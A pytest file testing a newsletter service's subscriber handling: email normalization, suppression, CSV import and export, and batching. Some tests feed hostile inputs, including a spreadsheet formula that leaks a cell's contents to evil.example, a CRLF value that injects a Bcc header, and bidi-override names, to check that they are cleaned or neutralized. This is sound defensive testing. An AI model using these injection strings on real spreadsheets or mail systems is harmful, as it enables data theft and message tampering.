"""Subscribers: validation, normalization, suppression, CSV import and export."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from newsletter.errors import DatabaseUnavailableError, SubscriberError
from newsletter.service.app import App
from newsletter.service.subscribers import (
    add_subscriber,
    export_csv,
    import_csv,
    list_subscribers,
    normalize_email,
    remove_subscriber,
)
from newsletter.storage.db import session_scope
from newsletter.storage.models import Subscriber
from tests.db_faults import read_only_engine


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (" Ann.Lee@Example.COM ", "ann.lee@example.com"),
        ("wei@例子.中国", "wei@xn--fsqu00a.xn--fiqs8s"),
    ],
)
def test_normalize_email(raw: str, expected: str) -> None:
    assert normalize_email(raw) == expected


@pytest.mark.parametrize(
    "raw",
    [
        "",
        "no-at-sign",
        "a@b",
        "Ann <ann@example.com>",
        "a@example.com,b@example.com",
        "x\r\nBcc: y@example.com",
    ],
)
def test_invalid_addresses_are_refused(raw: str) -> None:
    with pytest.raises(SubscriberError):
        normalize_email(raw)


def test_add_is_idempotent_and_remove_suppresses(make_app: Any) -> None:
    app = make_app()
    assert add_subscriber(app, "ann@example.com", "Ann").outcome == "added"
    assert add_subscriber(app, "ANN@example.com", "Ann").outcome == "unchanged"
    assert add_subscriber(app, "ann@example.com", "Ann Lee").outcome == "updated"
    assert remove_subscriber(app, "ann@example.com") is True
    assert add_subscriber(app, "ann@example.com").outcome == "suppressed"
    [sub] = list_subscribers(app)
    assert sub.status == "unsubscribed" and sub.unsubscribed_at is not None
    assert remove_subscriber(app, "nobody@example.com") is False


def test_tokens_are_opaque_and_unique(make_app: Any) -> None:
    app = make_app()
    for i in range(20):
        add_subscriber(app, f"user{i}@example.com")
    tokens = [s.token for s in list_subscribers(app)]
    assert len(set(tokens)) == 20
    assert all(len(t) == 22 and "@" not in t and "user" not in t for t in tokens)


def test_import_reports_bad_rows_by_line_and_keeps_the_rest(make_app: Any, tmp_path: Path) -> None:
    app = make_app()
    add_subscriber(app, "gone@example.com")
    remove_subscriber(app, "gone@example.com")
    path = tmp_path / "subs.csv"
    path.write_text(
        "email,name\n"
        "ann@example.com,Ann\n"
        "not-an-address,Bob\n"
        "\n"
        "zhang.wei@example.cn,张伟\n"
        "ANN@example.com,Ann again\n"
        "gone@example.com,Back?\n",
        encoding="utf-8",
    )
    report = import_csv(app, path)
    assert report.added == 2 and report.suppressed == 1
    assert [line for line, _ in report.errors] == [3, 6]
    assert "not-an-address" in report.errors[0][1] and "earlier" in report.errors[1][1]
    statuses = {s.email: s.status for s in list_subscribers(app)}
    assert statuses == {
        "ann@example.com": "active",
        "zhang.wei@example.cn": "active",
        "gone@example.com": "unsubscribed",
    }
    rows = list(csv.DictReader(io.StringIO(export_csv(app))))
    assert {r["email"]: r["name"] for r in rows}["zhang.wei@example.cn"] == "张伟"


def test_import_of_unreadable_file_says_so(make_app: Any, tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(b"\xff\xfe\x00bad")
    with pytest.raises(SubscriberError, match="UTF-8"):
        import_csv(make_app(), path)


def test_hostile_names_are_cleaned_and_the_export_is_safe_in_a_spreadsheet(
    make_app: Any, tmp_path: Path
) -> None:
    """A NUL no longer cuts a name short, bidi overrides are dropped (joiners kept), and no
    exported cell starts like a spreadsheet formula."""
    app = make_app()
    path = tmp_path / "hostile.csv"
    formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    path.write_text(
        "email,name\n"
        f'nul@example.com,"Ann\x00 Reader"\n'
        f"bidi@example.com,Bob \u202eredaeR\u202c the \u2066admin\u2069\n"
        f"joiner@example.com,\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645\n"
        f'formula@example.com,"{formula.replace(chr(34), chr(34) * 2)}"\n'
        "plus@example.com,+1 555 0100\n"
        "-dash@example.com,@handle\n",
        encoding="utf-8",
    )
    report = import_csv(app, path)
    assert report.added == 6, report.errors
    names = {s.email: s.name for s in list_subscribers(app)}
    assert names["nul@example.com"] == "Ann Reader"
    assert names["bidi@example.com"] == "Bob redaeR the admin"
    assert names["joiner@example.com"] == "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
    assert names["formula@example.com"] == formula  # stored as given; only the export guards

    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(export_csv(app)))}
    assert rows["formula@example.com"]["name"] == "'" + formula
    assert rows["plus@example.com"]["name"] == "'+1 555 0100"
    assert rows["'-dash@example.com"]["name"] == "'@handle"
    assert rows["nul@example.com"]["name"] == "Ann Reader"
    for row in rows.values():
        for cell in (row["email"], row["name"]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("raw", ["用户@example.com", "josé@example.com"])
def test_non_ascii_local_parts_are_refused_with_the_reason(raw: str) -> None:
    """Issues go out without SMTPUTF8, so such an address could never receive one."""
    with pytest.raises(SubscriberError, match="must be ASCII"):
        normalize_email(raw)
    # A non-ASCII domain is fine: it is sent as IDNA.
    assert normalize_email("reader@例え.jp") == "reader@xn--r8jz45g.jp"


def test_an_oversized_csv_field_is_one_row_error_and_the_rest_is_imported(
    make_app: Any, tmp_path: Path
) -> None:
    app = make_app()
    path = tmp_path / "big.csv"
    path.write_text(
        "email,name\n"
        "first@example.com,First\n"
        f'huge@example.com,"{"x" * 200_000}"\n'
        "after@example.com,After\n",
        encoding="utf-8",
    )
    report = import_csv(app, path)
    assert [line for line, _ in report.errors] == [3]
    assert "a field over 128 KB (131,072 characters)" in report.errors[0][1]
    assert {s.email for s in list_subscribers(app)} == {"first@example.com", "after@example.com"}


def test_a_large_import_commits_in_batches_and_counts_every_row(
    make_app: Any, tmp_path: Path
) -> None:
    from newsletter.service.subscribers import IMPORT_BATCH

    app = make_app()
    rows = 2 * IMPORT_BATCH + 7
    path = tmp_path / "many.csv"
    path.write_text(
        "email\n" + "".join(f"reader{n}@example.com\n" for n in range(rows)), encoding="utf-8"
    )
    commits: list[int] = []
    sa.event.listen(app.engine, "commit", lambda _conn: commits.append(1))
    assert import_csv(app, path).added == rows
    # One short transaction per batch: SQLite's one writer is free between them.
    assert len(commits) == 3
    again = import_csv(app, path)  # idempotent
    assert again.added == 0 and again.unchanged == rows
    assert len(list_subscribers(app)) == rows


def test_add_cleans_the_name_and_refuses_a_non_ascii_local_part(make_app: Any) -> None:
    app = make_app()
    assert add_subscriber(app, "ann@example.com", "Ann\x00 \u202eReader").outcome == "added"
    assert {s.email: s.name for s in list_subscribers(app)} == {"ann@example.com": "Ann Reader"}
    with pytest.raises(SubscriberError, match="must be ASCII"):
        add_subscriber(app, "josé@example.com", "José")
    assert len(list_subscribers(app)) == 1


def test_import_refuses_non_ascii_local_parts_by_line_with_the_reason(
    make_app: Any, tmp_path: Path
) -> None:
    app = make_app()
    path = tmp_path / "utf8.csv"
    path.write_text(
        "email,name\nok@example.com,Ok\n用户@example.com,User\nreader@例え.jp,Reader\n",
        encoding="utf-8",
    )
    report = import_csv(app, path)
    assert report.added == 2
    assert [line for line, _ in report.errors] == [3]
    assert "the part before @ must be ASCII" in report.errors[0][1]
    assert {s.email for s in list_subscribers(app)} == {"ok@example.com", "reader@xn--r8jz45g.jp"}


def test_an_import_batch_keeps_each_state_and_counts_each_outcome(
    make_app: Any, tmp_path: Path
) -> None:
    """One batch holding new, renamed, unchanged, pending and suppressed addresses: the same
    outcomes as adding them one by one; suppressed ones stay suppressed, pending stays pending."""
    app = make_app()
    add_subscriber(app, "same@example.com", "Same")
    add_subscriber(app, "rename@example.com", "Old")
    add_subscriber(app, "gone@example.com")
    remove_subscriber(app, "gone@example.com")
    with session_scope(app.engine) as session:
        session.add(Subscriber(email="pending@example.com", status="pending", token="p" * 22))
    path = tmp_path / "mixed.csv"
    path.write_text(
        "new@example.com,New\nsame@example.com,Same\nrename@example.com,New Name\n"
        "gone@example.com,Back\npending@example.com,Pat\nnoname@example.com\n",
        encoding="utf-8",
    )
    report = import_csv(app, path)
    # A name is filled in where there was none (pending), never overwritten (rename) by default.
    assert (report.added, report.updated, report.unchanged, report.suppressed) == (2, 1, 2, 1)
    assert {s.email: s.name for s in list_subscribers(app)}["rename@example.com"] == "Old"
    again = import_csv(app, path, update_names=True)
    assert (again.added, again.updated, again.unchanged, again.suppressed) == (0, 1, 4, 1)
    rows = {s.email: (s.status, s.name) for s in list_subscribers(app)}
    assert rows == {
        "new@example.com": ("active", "New"),
        "noname@example.com": ("active", None),
        "same@example.com": ("active", "Same"),
        "rename@example.com": ("active", "New Name"),
        "gone@example.com": ("unsubscribed", None),
        "pending@example.com": ("pending", "Pat"),
    }
    tokens = [s.token for s in list_subscribers(app)]
    assert len(set(tokens)) == len(tokens)


def test_an_import_into_a_database_that_takes_no_writes_is_one_error_saying_what_to_do(
    make_app: Any, database_url: str, tmp_path: Path
) -> None:
    """A full disk or a lock held past the busy timeout ends the import with one message:
    what is stored, and that running it again is safe (no traceback, nothing half-written)."""
    app = make_app()
    path = tmp_path / "rows.csv"
    path.write_text("".join(f"r{n}@example.com\n" for n in range(10)), encoding="utf-8")
    read_only = App(app.settings, app.config, read_only_engine(database_url))
    try:
        with pytest.raises(DatabaseUnavailableError) as caught:
            import_csv(read_only, path)
    finally:
        read_only.engine.dispose()
    message = str(caught.value)
    assert message.startswith(f"{path}: import stopped before the end of the file: ")
    assert "The 0 rows added before that are stored; run the same import again" in message
    assert list_subscribers(app) == []
    assert import_csv(app, path).added == 10
